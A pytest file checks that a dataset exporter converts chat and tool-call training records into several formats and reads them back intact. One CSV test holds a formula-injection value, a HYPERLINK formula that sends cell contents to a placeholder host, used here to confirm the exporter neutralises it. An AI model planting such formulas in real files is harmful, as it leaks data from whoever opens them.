"""Exports hold what the training file holds, in words of those who read them."""

import csv
import io
import json
import tracemalloc
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from gateway.datasets.cleaning.exports import SUFFIXES, export
from gateway.datasets.importing import import_file
from gateway.datasets.tokens import TokenCounter
from gateway.datasets.unusable import Unusable
from gateway.protocol.dataset_versions import EXPORT_FORMATS, ExportFormat
from gateway.protocol.datasets import ImportOptions
from tests.gateway.datasets.files import chat, jsonl, pair

TOOL = {"type": "function", "function": {"name": "send", "description": "Sends.", "parameters": {"type": "object"}}}
CALL = {"id": "call_1", "type": "function", "function": {"name": "send", "arguments": '{"to":"Ann","n":3}'}}
USER, ANSWER = {"role": "user", "content": "Write to Ann."}, {"role": "assistant", "content": "Done."}
CALLING: dict[str, Any] = {
    "messages": [
        {"role": "system", "content": "Be brief."},
        USER,
        {"role": "assistant", "tool_calls": [CALL], "weight": 0},
        {"role": "tool", "tool_call_id": "call_1", "content": "sent"},
        ANSWER,
    ],
    "tools": [TOOL],
}
TURNS: dict[str, Any] = {
    "messages": [
        {"role": "user", "content": "One?"},
        {"role": "assistant", "content": "First."},
        {"role": "user", "content": "Two?"},
        {"role": "assistant", "content": "Second."},
    ]
}


def exported(place: Path, format: ExportFormat, *lines: Any) -> bytes:
    (place / "file.jsonl").write_bytes(jsonl(*lines))
    found = export(place / "file.jsonl", place / "export", format)
    assert found.skipped == 0
    return (place / "export").read_bytes()


def rows(place: Path, format: ExportFormat, *lines: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in exported(place, format, *lines).splitlines()]


def imported(place: Path) -> list[dict[str, Any]]:
    """What the importer makes of an export, left to itself."""
    options = ImportOptions(store=True)
    import_file(place / "export", options, counter=TokenCounter(None), outputs=(place / "again", None))
    return [json.loads(line) for line in (place / "again").read_bytes().splitlines()]


def equal(line: Any) -> Any:
    """Arguments by what they say, not by how they are spaced; ids of calls are made anew where a format has none."""
    return json.loads(json.dumps(line).replace(r"{\"to\":\"Ann\",\"n\":3}", r"{\"to\": \"Ann\", \"n\": 3}"))


class TestRoundTrip:
    """The importer reads them back the same."""

    CHATS = (chat(), TURNS, chat("= 1 + 2?", "- three\n- or \u201cthree\u201d, \u82f9\u679c", tools=[TOOL]))
    PAIRS = (
        pair(),
        pair("Why?", "- because\n- so", "[no idea]"),
        pair("\u82f9\u679c?", '"yes", they said', "no\r\nno"),
    )

    @pytest.mark.parametrize("format", ["openai", "sharegpt", "parquet", "csv"])
    def test_chats(self, tmp_path: Path, format: ExportFormat) -> None:
        exported(tmp_path, format, *self.CHATS)
        assert imported(tmp_path) == list(self.CHATS)

    @pytest.mark.parametrize("format", ["openai", "sharegpt", "parquet", "csv", "trl"])
    def test_pairs(self, tmp_path: Path, format: ExportFormat) -> None:
        exported(tmp_path, format, *self.PAIRS)
        assert imported(tmp_path) == list(self.PAIRS)

    @pytest.mark.parametrize("format", ["openai", "parquet", "csv"])
    def test_calls_of_tools(self, tmp_path: Path, format: ExportFormat) -> None:
        exported(tmp_path, format, CALLING, chat())
        assert equal(imported(tmp_path)) == equal([CALLING, chat()])

    @pytest.mark.parametrize("format", ["parquet", "csv", "sharegpt"])
    def test_pairs_with_tools(self, tmp_path: Path, format: ExportFormat) -> None:
        line = pair()
        line["input"]["tools"] = [TOOL]
        exported(tmp_path, format, line, pair())
        assert imported(tmp_path) == [line, pair()]

    def test_calls_of_tools_as_turns_of_their_own(self, tmp_path: Path) -> None:
        exported(tmp_path, "sharegpt", CALLING)
        (again,) = imported(tmp_path)
        assert again["tools"] == [TOOL]
        assert [each["role"] for each in again["messages"]] == ["system", "user", "assistant", "tool", "assistant"]
        assert json.loads(again["messages"][2]["tool_calls"][0]["function"]["arguments"]) == {"to": "Ann", "n": 3}

    def test_texts_as_instructions(self, tmp_path: Path) -> None:
        exported(tmp_path, "alpaca", chat())
        assert imported(tmp_path) == [chat()]

    def test_pairs_as_instructions(self, tmp_path: Path) -> None:
        exported(tmp_path, "alpaca", pair())
        assert imported(tmp_path) == [pair()]


class TestShapes:
    def test_openai_is_the_same_values(self, tmp_path: Path) -> None:
        assert rows(tmp_path, "openai", CALLING, TURNS) == [CALLING, TURNS]

    def test_trl_has_a_row_for_each_answer_that_is_learnt(self, tmp_path: Path) -> None:
        asked, first, second, last = TURNS["messages"]
        assert rows(tmp_path, "trl", TURNS) == [
            {"prompt": [asked], "completion": [first]},
            {"prompt": [asked, first, second], "completion": [last]},
        ]

    def test_trl_takes_arguments_as_objects_and_no_weights(self, tmp_path: Path) -> None:
        (row,) = rows(tmp_path, "trl", CALLING)
        called = {"type": "function", "function": {"name": "send", "arguments": {"to": "Ann", "n": 3}}}
        assert row["prompt"][2] == {"role": "assistant", "content": "", "tool_calls": [called]}
        assert (row["completion"], row["tools"]) == ([ANSWER], [TOOL])

    def test_sharegpt_has_turns(self, tmp_path: Path) -> None:
        (row,) = rows(tmp_path, "sharegpt", CALLING)
        speakers = [turn["from"] for turn in row["conversations"]]
        assert speakers == ["system", "human", "function_call", "observation", "gpt"]
        assert json.loads(row["conversations"][2]["value"]) == {"name": "send", "arguments": {"to": "Ann", "n": 3}}

    def test_alpaca_has_earlier_turns_as_history(self, tmp_path: Path) -> None:
        first, second = rows(tmp_path, "alpaca", TURNS)
        assert (first["instruction"], first["output"], first["history"]) == ("One?", "First.", [])
        assert (second["instruction"], second["output"]) == ("Two?", "Second.")
        assert second["history"] == [["One?", "First."]]

    def test_alpaca_has_no_place_for_tools_and_says_so(self, tmp_path: Path) -> None:
        (tmp_path / "file").write_bytes(jsonl(CALLING, chat()))
        found = export(tmp_path / "file", tmp_path / "export", "alpaca")
        assert (found.rows, found.skipped) == (1, 1)

    def test_csv_begins_no_formula(self, tmp_path: Path) -> None:
        evil = '=HYPERLINK("http://x.example?"&A1)'
        lines = [chat(evil, "@SUM(1)"), chat("+1", "\t=1")], [pair(evil, evil, "-1+2")]
        for batch in lines:
            text = exported(tmp_path, "csv", *batch).decode("utf-8-sig")
            cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
            assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))] == []

    def test_csv_has_question_and_answer_to_read(self, tmp_path: Path) -> None:
        text = exported(tmp_path, "csv", chat("Why, then?", "So.")).decode("utf-8-sig")
        (row,) = csv.DictReader(io.StringIO(text, newline=""))
        assert (row["question"], row["answer"]) == ("Why, then?", "So.")

    def test_parquet_has_the_same_columns_in_every_part(self, tmp_path: Path) -> None:
        exported(tmp_path, "parquet", *([chat()] * 1500), CALLING)
        with pq.ParquetFile(tmp_path / "export") as file:
            assert (file.metadata.num_rows, file.num_row_groups) == (1501, 2)
            assert file.schema_arrow.names == ["messages", "tools"]

    def test_files_have_names_of_their_own(self) -> None:
        assert set(SUFFIXES) == set(EXPORT_FORMATS)
        assert len(set(SUFFIXES.values())) == len(EXPORT_FORMATS)


class TestEdges:
    @pytest.mark.parametrize("format", EXPORT_FORMATS)
    def test_a_file_without_lines(self, tmp_path: Path, format: ExportFormat) -> None:
        (tmp_path / "file").write_bytes(b"")
        assert export(tmp_path / "file", tmp_path / "export", format).rows == 0

    @pytest.mark.parametrize(
        "raw", [b"no json\n", b"[1]\n", b'{"a": 1}\n', b'{"messages": 3}\n', b'{"messages": [3]}\n']
    )
    def test_a_file_that_is_no_training_file(self, tmp_path: Path, raw: bytes) -> None:
        (tmp_path / "file").write_bytes(jsonl(chat()) + raw)
        with pytest.raises(Unusable, match="Line 2"):
            export(tmp_path / "file", tmp_path / "export", "trl")

    @pytest.mark.parametrize("format", EXPORT_FORMATS)
    def test_memory_does_not_grow_with_the_file(
        self, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory, format: ExportFormat
    ) -> None:
        (tmp_path / "file").write_bytes(jsonl(chat("Where is it? " * 20, "There. " * 200)) * 5000)
        exported(tmp_path_factory.mktemp("first"), format, chat())  # what libraries load once does not count
        tracemalloc.start()
        try:
            export(tmp_path / "file", tmp_path / "export", format)
            assert tracemalloc.get_traced_memory()[1] < 6 * 1024**2 < (tmp_path / "file").stat().st_size
        finally:
            tracemalloc.stop()
